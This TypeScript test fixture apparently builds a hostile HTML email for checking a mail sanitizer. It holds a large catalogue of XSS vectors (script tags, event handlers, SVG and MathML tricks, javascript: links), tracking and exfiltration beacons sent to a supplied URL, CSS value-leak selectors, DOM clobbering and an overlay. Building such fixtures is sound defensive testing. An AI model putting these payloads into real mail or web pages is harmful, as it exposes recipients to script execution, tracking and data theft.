const script =
  "try{top.owned=1}catch(e){};try{parent.postMessage('owned','*')}catch(e){};document.title='owned'";

/** Everything a mail could try, as it would arrive without a sanitizer. */
export const attacks = (url: string) => `
<script>${script};fetch('${url}/fetch');new Image().src='${url}/image';navigator.sendBeacon('${url}/beacon')</script>
<script src="${url}/script.js"></script><script type="module">import '${url}/module.js'</script>
<link rel="dns-prefetch" href="${url}"><link rel="preconnect" href="${url}"><link rel="prefetch" href="${url}/prefetch">
<link rel="preload" as="image" href="${url}/preload"><link rel="modulepreload" href="${url}/modulepreload">
<link rel="stylesheet" href="${url}/css"><link rel="icon" href="${url}/icon"><link rel="manifest" href="${url}/manifest">
<link rel="import" href="${url}/import"><base href="${url}/base/"><meta http-equiv="refresh" content="0;url=${url}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *"><meta http-equiv="set-cookie" content="a=b">
<style>
@import "${url}/css-import"; @font-face{font-family:x;src:url(${url}/font)} *{font-family:x}
body{background:url(${url}/css-background);cursor:url(${url}/cursor),auto;list-style-image:url(${url}/list)}
p::after{content:url(${url}/content)} p{mask:url(${url}/mask);filter:url(${url}/filter#a);border-image:url(${url}/border)}
p{background:image-set("${url}/set" 1x);shape-outside:url(${url}/shape)}
input[value^="s"]{background:url(${url}/leak-s)} a:visited{background:url(${url}/visited)}
html,body,div.over{position:fixed!important;inset:-5000px!important;z-index:2147483647!important;background:red!important}
</style>
<body background="${url}/body" onload="${script}" onpageshow="${script}" onfocus="${script}">
<img src="${url}/img" onerror="${script}"><img srcset="${url}/srcset 2x, ${url}/srcset3 3x" src="data:,x" onerror="${script}">
<picture><source srcset="${url}/source"><img src="${url}/picture" loading="lazy"></picture><input type="image" src="${url}/input">
<video src="${url}/video" poster="${url}/poster" autoplay onloadstart="${script}"></video><audio src="${url}/audio" autoplay></audio>
<track src="${url}/track"><iframe src="${url}/iframe"></iframe><iframe srcdoc="<script>${script}</script>"></iframe>
<iframe src="javascript:${script}"></iframe><frameset><frame src="${url}/frame"></frameset><portal src="${url}/portal"></portal>
<object data="${url}/object"></object><embed src="${url}/embed"><applet code="${url}/applet"></applet>
<svg onload="${script}"><script>${script}</script><image href="${url}/svg"/><use href="${url}/use#a"/><feImage href="${url}/feimage"/>
<animate attributeName="href" values="javascript:${script}"/><foreignObject><iframe src="${url}/foreign"></iframe></foreignObject></svg>
<math><mtext><mglyph><style><img src=x onerror="${script}"></style></mglyph></mtext><maction actiontype="statusline" xlink:href="javascript:${script}">m</maction></math>
<form action="${url}/form" id="auto"><input name="secret" value="secret" autofocus onfocus="${script}"><button id="submit">Send</button></form>
<form id="parent"></form><img name="body"><a id="document" name="cookie"></a><form name="getElementById"></form>
<table background="${url}/table"><tr><td background="${url}/td">t</td></tr></table><details open ontoggle="${script}"><summary>d</summary></details>
<marquee onstart="${script}">m</marquee><div class="over" style="background:url(${url}/inline)">over everything</div>
<template><img src="${url}/template"></template><noscript><img src="${url}/noscript"></noscript>
<a id="js" href="javascript:${script}">js</a><a id="data" href="data:text/html,<script>${script}</script>">data</a>
<a id="top" href="${url}/top" target="_top">top</a><a id="parent-link" href="${url}/parent" target="_parent">parent</a>
<a id="self" href="${url}/self" target="_self" ping="${url}/ping">self</a>
<p>END OF MAIL</p>`;
